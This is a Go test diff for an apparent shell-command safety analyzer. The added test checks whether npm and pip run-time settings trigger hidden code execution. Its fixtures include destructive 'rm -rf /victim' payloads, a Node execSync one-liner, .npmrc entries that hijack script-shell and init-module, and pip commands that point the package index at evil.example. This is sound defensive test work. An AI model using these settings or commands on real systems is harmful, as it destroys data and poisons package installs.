@@ -106,3 +106,66 @@ func TestPackageManagerLocalCode(t *testing.T) {
 		}
 	}
 }
+
+// npm and pip settings read when the command runs: npm init's
+// init-module, the .npmrc of the --prefix project, a globalconfig file,
+// pip config's editor and its --site index.
+func TestPackageManagerRunTimeConfig(t *testing.T) {
+	t.Parallel()
+	dir := t.TempDir()
+	evilJS := `require("child_process").execSync("rm -rf /victim")` + "\n"
+	writeFiles(t, dir, map[string]string{
+		"e.sh":              "#!/bin/sh\nrm -rf /victim\n",
+		"init.js":           evilJS,
+		"sub/package.json":  `{"name":"sub","scripts":{"build":"echo hi"}}`,
+		"sub/.npmrc":        "script-shell=../e.sh\n",
+		"sub2/package.json": `{"name":"sub2"}`,
+		"sub2/.npmrc":       "init-module=./init.js\n",
+		"sub2/init.js":      evilJS,
+		"web/package.json":  `{"name":"web","scripts":{"build":"tsc"}}`,
+		"web/.npmrc":        "save-exact=true\n",
+		"g.npmrc":           "script-shell=./e.sh\n",
+		"package.json":      `{"name":"root","scripts":{"build":"echo root"}}`,
+	})
+	for _, tc := range []struct {
+		cmd        string
+		rm, hidden bool
+	}{
+		{"npm init -y --init-module=./init.js", true, false},
+		{"npm init --init-module ./init.js --yes", true, false},
+		{"npm_config_init_module=./init.js npm init -y", true, false},
+		{"cd sub2 && npm init -y", true, false},
+		{"npm --prefix sub run build", true, false},
+		{"npm run build --prefix sub", true, false},
+		{"npm -C sub run build", true, false},
+		{"npm_config_globalconfig=g.npmrc npm run build", false, true},
+		{"npm --globalconfig g.npmrc install", false, true},
+		{"pip config --editor ./e.sh edit", true, false},
+		{"pip config edit --editor=./e.sh", true, false},
+		{"pip config --site set global.index-url http://evil.example/simple", false, true},
+		{"pip config set --user global.index-url http://evil.example/simple", false, true},
+		// Look-alikes.
+		{"npm init -y", false, false},
+		{"cd sub2 && npm init vite@latest", false, false}, // an initializer: create-vite, not the init-module
+		{"npm --prefix web run build", false, false},
+		{"npm run build", false, false},
+		{"pip config set global.timeout 60", false, false},
+		{"pip config --user set global.timeout 60", false, false},
+		{"pip config list", false, false},
+	} {
+		m, err := Analyze(tc.cmd, Options{Cwd: dir, Home: "/home/u", ReadFile: ReadScript})
+		if err != nil {
+			t.Fatal(err)
+		}
+		if got := removes(m, "/victim"); got != tc.rm {
+			t.Errorf("%s: removes /victim = %v, want %v", tc.cmd, got, tc.rm)
+		}
+		hidden := false
+		for _, h := range m.Hidden {
+			hidden = hidden || h.Always
+		}
+		if hidden != tc.hidden {
+			t.Errorf("%s: asks = %v, want %v (%v)", tc.cmd, hidden, tc.hidden, m.Hidden)
+		}
+	}
+}
